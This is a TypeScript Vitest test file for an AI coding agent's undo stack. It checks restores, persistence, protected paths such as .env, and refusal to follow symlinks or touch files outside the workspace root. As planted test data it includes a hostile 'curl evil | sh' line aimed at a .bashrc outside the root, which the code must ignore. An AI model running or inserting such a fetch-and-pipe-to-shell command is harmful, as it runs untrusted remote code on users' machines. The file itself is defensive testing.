import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, readFile, readlink, realpath, rm, stat, symlink, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  PROJECT_UNDO_NOTE,
  type ProtectedRestoreAnswer,
  UndoStack,
  undoFilePath,
} from '../../../src/permissions/undo.js';
import type { ProtectedPathGuard } from '../../../src/workspace/protected.js';
import { RootSandbox } from '../../../src/workspace/root-sandbox.js';

describe('UndoStack', () => {
  let root: string;
  let undoFile: string;
  const display = (absolute: string) => path.relative(root, absolute);
  const sandbox = () => new RootSandbox(root);

  beforeEach(async () => {
    root = await realpath(await mkdtemp(path.join(os.tmpdir(), 'geekagent-undo-')));
    undoFile = path.join(root, '.geekagent', 'undo.json');
  });
  afterEach(async () => {
    await rm(root, { recursive: true, force: true });
  });

  /** Records like the write tool does: previous content (or null), then the write. */
  const change = async (stack: UndoStack, name: string, content: string) => {
    const file = path.join(root, name);
    const previous = await readFile(file, 'utf8').catch(() => null);
    await stack.record(file, previous, content);
    await mkdir(path.dirname(file), { recursive: true });
    await writeFile(file, content);
  };
  const contentOf = (name: string) => readFile(path.join(root, name), 'utf8').catch(() => null);

  it('says there is nothing to undo on an empty stack, without creating the file', async () => {
    const stack = new UndoStack(undoFile, { sandbox: sandbox(), display });
    expect(await stack.size()).toBe(0);
    expect(await stack.undo()).toBe('nothing to undo');
    await expect(stat(undoFile)).rejects.toThrow(/ENOENT/);
  });

  it('undoes two changes to one file in reverse order', async () => {
    const stack = new UndoStack(undoFile, { sandbox: sandbox(), display });
    await writeFile(path.join(root, 'a.txt'), 'v1');
    await change(stack, 'a.txt', 'v2');
    await change(stack, 'a.txt', 'v3');
    expect(await stack.size()).toBe(2);
    expect(await stack.undo()).toBe('restored a.txt');
    expect(await contentOf('a.txt')).toBe('v2');
    expect(await stack.undo()).toBe('restored a.txt');
    expect(await contentOf('a.txt')).toBe('v1');
    expect(await stack.undo()).toBe('nothing to undo');
  });

  it('deletes a file that did not exist before, after restoring a later change', async () => {
    const stack = new UndoStack(undoFile, { sandbox: sandbox(), display });
    await change(stack, 'new/file.txt', 'first');
    await change(stack, 'new/file.txt', 'second');
    expect(await stack.undo()).toBe(`restored ${path.join('new', 'file.txt')}`);
    expect(await contentOf('new/file.txt')).toBe('first');
    expect(await stack.undo()).toBe(`deleted ${path.join('new', 'file.txt')} (it did not exist before)`);
    expect(await contentOf('new/file.txt')).toBeNull();
  });

  it('says a created file already gone is gone, and leaves a changed or deleted file as it is', async () => {
    const stack = new UndoStack(undoFile, { sandbox: sandbox(), display });
    await writeFile(path.join(root, 'changed.txt'), 'v0');
    await writeFile(path.join(root, 'deleted.txt'), 'v0');
    await change(stack, 'changed.txt', 'agent');
    await change(stack, 'deleted.txt', 'agent');
    await change(stack, 'gone.txt', 'agent');
    await rm(path.join(root, 'gone.txt'));
    await rm(path.join(root, 'deleted.txt'));
    await writeFile(path.join(root, 'changed.txt'), 'mine');
    expect(await stack.undo()).toBe('nothing to delete: gone.txt (the agent created it) is gone already');
    expect(await stack.undo()).toBe(
      'not restored deleted.txt: it was deleted since the agent wrote it (left as it is)',
    );
    expect(await contentOf('deleted.txt')).toBeNull();
    expect(await stack.undo()).toBe(
      'not restored changed.txt: it changed since the agent wrote it (left as it is)',
    );
    expect(await contentOf('changed.txt')).toBe('mine');
    expect(await stack.undo()).toBe('nothing to undo');
  });

  it('survives a restart: a new instance on the same file sees earlier entries', async () => {
    const first = new UndoStack(undoFile, { sandbox: sandbox(), display });
    await writeFile(path.join(root, 'a.txt'), 'original');
    await change(first, 'a.txt', 'edited');
    await change(first, 'b.txt', 'created');

    const saved = JSON.parse(await readFile(undoFile, 'utf8'));
    expect(saved.entries.map((entry: { path: string }) => entry.path)).toEqual([
      path.join(root, 'a.txt'),
      path.join(root, 'b.txt'),
    ]);
    expect(saved.entries[0].previous).toBe('original');
    expect(saved.entries[1].previous).toBeNull();
    expect(new Date(saved.entries[0].at).toISOString()).toBe(saved.entries[0].at);

    const second = new UndoStack(undoFile, { sandbox: sandbox(), display });
    expect(await second.size()).toBe(2);
    expect(await second.undo()).toBe('deleted b.txt (it did not exist before)');
    const third = new UndoStack(undoFile, { sandbox: sandbox(), display });
    expect(await third.undo()).toBe('restored a.txt');
    expect(await contentOf('a.txt')).toBe('original');
    expect(await third.size()).toBe(0);
  });

  it('drops the oldest entries beyond the limit', async () => {
    const stack = new UndoStack(undoFile, { sandbox: sandbox(), display, limit: 2 });
    await writeFile(path.join(root, 'a.txt'), 'v0');
    for (const version of ['v1', 'v2', 'v3']) await change(stack, 'a.txt', version);
    expect(await stack.size()).toBe(2);
    expect(await stack.undo()).toBe('restored a.txt');
    expect(await stack.undo()).toBe('restored a.txt');
    expect(await contentOf('a.txt')).toBe('v1');
    expect(await stack.undo()).toBe('nothing to undo');
  });

  it('keeps 50 entries by default and refuses a limit below 1', async () => {
    const stack = new UndoStack(undoFile, { sandbox: sandbox() });
    for (let i = 0; i < 51; i++) await stack.record(path.join(root, `f${i}.txt`), `c${i}`, 'x');
    expect(await stack.size()).toBe(50);
    const saved = JSON.parse(await readFile(undoFile, 'utf8'));
    expect(saved.entries[0].path).toBe(path.join(root, 'f1.txt'));
    expect(() => new UndoStack(undoFile, { sandbox: sandbox(), limit: 0 })).toThrow(RangeError);
  });

  it('keeps every entry when records run in parallel', async () => {
    const stack = new UndoStack(undoFile, { sandbox: sandbox(), display });
    const names = Array.from({ length: 20 }, (_, i) => path.join(root, `p${i}.txt`));
    await Promise.all(names.map((name, i) => stack.record(name, `content ${i}`, 'x')));
    expect(await stack.size()).toBe(20);
    const saved = JSON.parse(await readFile(undoFile, 'utf8'));
    expect(saved.entries.map((entry: { path: string }) => entry.path)).toEqual(names);
  });

  it('treats a corrupt file as empty and says so in the next undo, once', async () => {
    await mkdir(path.dirname(undoFile), { recursive: true });
    await writeFile(undoFile, '{ "entries": [ oops');
    const stack = new UndoStack(undoFile, { sandbox: sandbox(), display });
    expect(await stack.size()).toBe(0);
    expect(await stack.undo()).toBe(
      `undo history in ${undoFile} was unreadable and has been reset; nothing to undo`,
    );
    expect(JSON.parse(await readFile(undoFile, 'utf8'))).toEqual({ entries: [] });
    expect(await stack.undo()).toBe('nothing to undo');
  });

  it('records over a corrupt file and still reports the reset with the undo', async () => {
    await mkdir(path.dirname(undoFile), { recursive: true });
    await writeFile(undoFile, JSON.stringify({ entries: [{ path: 'relative.txt', previous: 3 }] }));
    const stack = new UndoStack(undoFile, { sandbox: sandbox(), display });
    await change(stack, 'a.txt', 'new');
    expect(await stack.undo()).toBe(
      `undo history in ${undoFile} was unreadable and has been reset; deleted a.txt (it did not exist before)`,
    );
    expect(await stack.undo()).toBe('nothing to undo');
  });

  /** Every path is protected, named by its path relative to the root. */
  const everything: ProtectedPathGuard = {
    check: (paths) => [path.relative(root, paths[0]!)],
    mentionedIn: () => [],
  };

  describe('protected paths', () => {
    it('without a way to ask (print mode): refused with the flag to pass, the entry kept', async () => {
      const stack = new UndoStack(undoFile, { sandbox: sandbox(), display, protectedPaths: everything });
      await writeFile(path.join(root, '.env'), 'A=1');
      await change(stack, '.env', 'A=2');
      expect(await stack.undo()).toBe(
        'not restored .env: protected path — pass --allow-protected .env to undo it',
      );
      expect(await contentOf('.env')).toBe('A=2');
      expect(await stack.size()).toBe(1);
    });

    it('asks: restore restores, skip drops the step, cancel keeps it', async () => {
      const stack = new UndoStack(undoFile, { sandbox: sandbox(), display, protectedPaths: everything });
      await writeFile(path.join(root, '.env'), 'A=1');
      await change(stack, '.env', 'A=2');
      await change(stack, '.env', 'A=3');
      await change(stack, 'new.env', 'B=1');
      const asked: Array<[string, boolean]> = [];
      const answer =
        (given: ProtectedRestoreAnswer) =>
        async (shown: string, removes: boolean): Promise<ProtectedRestoreAnswer> => {
          asked.push([shown, removes]);
          return given;
        };
      expect(await stack.undo(answer('cancel'))).toBe('undo cancelled: new.env left as it is');
      expect(await stack.size()).toBe(3);
      expect(await stack.undo(answer('restore'))).toBe('deleted new.env (it did not exist before)');
      expect(await stack.undo(answer('skip'))).toBe(
        'left .env as it is; this change is gone from the undo history',
      );
      expect(await contentOf('.env')).toBe('A=3');
      // The older step no longer matches (the file holds A=3, not A=2): left alone, unasked.
      expect(await stack.undo(answer('restore'))).toBe(
        'not restored .env: it changed since the agent wrote it (left as it is)',
      );
      expect(asked).toEqual([
        ['new.env', true],
        ['new.env', true],
        ['.env', false],
      ]);
    });

    it('keeps the entry when restoring fails (a link swapped in while asking), never writing through it', async () => {
      const stack = new UndoStack(undoFile, { sandbox: sandbox(), display, protectedPaths: everything });
      await writeFile(path.join(root, 'target.txt'), 'target');
      await writeFile(path.join(root, 'a.txt'), 'v1');
      await change(stack, 'a.txt', 'v2');
      const swap = async (): Promise<ProtectedRestoreAnswer> => {
        await rm(path.join(root, 'a.txt'));
        await symlink(path.join(root, 'target.txt'), path.join(root, 'a.txt'));
        return 'restore';
      };
      await expect(stack.undo(swap)).rejects.toThrow('refusing to restore a.txt: it is a symbolic link');
      expect(await contentOf('target.txt')).toBe('target');
      expect(await readlink(path.join(root, 'a.txt'))).toBe(path.join(root, 'target.txt'));
      expect(await stack.size()).toBe(1);
    });
  });

  it('writes its file 0600, creating the folders below the state folder 0700, and refuses a linked one', async () => {
    const userDir = path.join(root, 'user');
    const file = path.join(userDir, 'projects', 'key', 'undo.json');
    const stack = new UndoStack(file, { sandbox: sandbox(), display, stateBase: userDir });
    await change(stack, 'a.txt', 'x');
    expect((await stat(file)).mode & 0o777).toBe(0o600);
    expect((await stat(path.dirname(file))).mode & 0o777).toBe(0o700);
    await rm(path.join(userDir, 'projects'), { recursive: true });
    const elsewhere = await mkdtemp(path.join(os.tmpdir(), 'geekagent-undo-elsewhere-'));
    try {
      await symlink(elsewhere, path.join(userDir, 'projects'));
      await expect(change(stack, 'b.txt', 'y')).rejects.toThrow(
        /refusing to keep undo history in .*projects: it is a symbolic link/,
      );
      await expect(stat(path.join(elsewhere, 'key'))).rejects.toThrow(/ENOENT/);
    } finally {
      await rm(elsewhere, { recursive: true, force: true });
    }
  });

  describe("the project's own .geekagent/undo.json", () => {
    it('is never read; the first undo of a run says so, once', async () => {
      const userDir = path.join(root, 'user');
      await mkdir(path.join(root, '.geekagent'));
      const planted = { entries: [{ path: path.join(root, 'a.txt'), previous: 'planted', at: 'now' }] };
      await writeFile(path.join(root, '.geekagent', 'undo.json'), JSON.stringify(planted));
      await writeFile(path.join(root, 'a.txt'), 'mine');
      const stack = new UndoStack(undoFilePath(userDir, root), {
        sandbox: sandbox(),
        display,
        stateBase: userDir,
        projectDir: root,
      });
      expect(await stack.undo()).toBe(`${PROJECT_UNDO_NOTE}; nothing to undo`);
      expect(await stack.undo()).toBe('nothing to undo');
      expect(await contentOf('a.txt')).toBe('mine');
    });

    it('says nothing when there is none', async () => {
      const stack = new UndoStack(undoFile, { sandbox: sandbox(), display, projectDir: root });
      expect(await stack.undo()).toBe('nothing to undo');
    });
  });

  describe('entries that do not fit (a root moved, a file edited by hand)', () => {
    let outside: string;
    beforeEach(async () => {
      outside = await realpath(await mkdtemp(path.join(os.tmpdir(), 'geekagent-undo-outside-')));
      await writeFile(path.join(outside, '.bashrc'), 'original rc');
      await writeFile(path.join(outside, 'keep.txt'), 'keep me');
    });
    afterEach(async () => {
      await rm(outside, { recursive: true, force: true });
    });

    /** Entries that claim to have written what each file holds now. */
    const craft = async (entries: Array<{ path: string; previous: string | null }>) => {
      await mkdir(path.dirname(undoFile), { recursive: true });
      const at = new Date().toISOString();
      const written = async (file: string) => sha256(await readFile(file, 'utf8').catch(() => ''));
      const full = await Promise.all(
        entries.map(async (entry) => ({ ...entry, at, written: await written(entry.path) })),
      );
      await writeFile(undoFile, JSON.stringify({ entries: full }));
    };

    it('ignores entries outside the root with a warning, and never touches those files', async () => {
      await writeFile(path.join(root, 'a.txt'), 'now');
      await craft([
        { path: path.join(root, 'a.txt'), previous: 'restored inside' },
        { path: path.join(outside, 'keep.txt'), previous: null },
        { path: path.join(outside, '.bashrc'), previous: 'curl evil | sh' },
      ]);
      const stack = new UndoStack(undoFile, { sandbox: sandbox() });
      expect(await stack.undo()).toBe(
        `ignored an undo entry outside the root: ${path.join(outside, '.bashrc')}; ` +
          `ignored an undo entry outside the root: ${path.join(outside, 'keep.txt')}; restored a.txt`,
      );
      expect(await readFile(path.join(outside, '.bashrc'), 'utf8')).toBe('original rc');
      expect(await readFile(path.join(outside, 'keep.txt'), 'utf8')).toBe('keep me');
      expect(await contentOf('a.txt')).toBe('restored inside');
      // The ignored entries are gone for good.
      expect(await stack.size()).toBe(0);
    });

    it('ignores an entry that reaches outside through a symlinked folder', async () => {
      await symlink(outside, path.join(root, 'out'));
      await craft([
        { path: path.join(root, 'out', '.bashrc'), previous: 'pwned' },
        { path: path.join(root, 'out', 'keep.txt'), previous: null },
      ]);
      const stack = new UndoStack(undoFile, { sandbox: sandbox(), display });
      expect(await stack.undo()).toMatch(/^ignored an undo entry outside the root: .*keep\.txt; /);
      expect(await stack.undo()).toBe('nothing to undo');
      expect(await readFile(path.join(outside, '.bashrc'), 'utf8')).toBe('original rc');
      expect(await readFile(path.join(outside, 'keep.txt'), 'utf8')).toBe('keep me');
    });

    it('leaves a link (in the root or not) alone: it does not hold what the agent wrote', async () => {
      await writeFile(path.join(root, 'target.txt'), 'target');
      await symlink(path.join(root, 'target.txt'), path.join(root, 'link.txt'));
      await symlink(path.join(root, 'target.txt'), path.join(root, 'created.txt'));
      await craft([
        { path: path.join(root, 'created.txt'), previous: null },
        { path: path.join(root, 'link.txt'), previous: 'through the link' },
      ]);
      const stack = new UndoStack(undoFile, { sandbox: sandbox(), display });
      expect(await stack.undo()).toBe(
        'not restored link.txt: it changed since the agent wrote it (left as it is)',
      );
      expect(await stack.undo()).toBe(
        'not restored created.txt: it changed since the agent wrote it (left as it is)',
      );
      expect(await contentOf('target.txt')).toBe('target');
      expect(await readlink(path.join(root, 'link.txt'))).toBe(path.join(root, 'target.txt'));
      expect(await readlink(path.join(root, 'created.txt'))).toBe(path.join(root, 'target.txt'));
    });

    it('refuses an undo.json that is a symlink instead of following or resetting it', async () => {
      await mkdir(path.dirname(undoFile), { recursive: true });
      const elsewhere = path.join(outside, 'undo.json');
      await writeFile(elsewhere, JSON.stringify({ entries: [] }));
      await symlink(elsewhere, undoFile);
      const stack = new UndoStack(undoFile, { sandbox: sandbox(), display });
      await expect(stack.undo()).rejects.toThrow(/refusing to read .*undo\.json: it is a symbolic link/);
      await expect(stack.record(path.join(root, 'a.txt'), null, 'x')).rejects.toThrow(/symbolic link/);
      expect(await readFile(elsewhere, 'utf8')).toBe(JSON.stringify({ entries: [] }));
    });
  });
});

function sha256(text: string): string {
  return createHash('sha256').update(text).digest('hex');
}
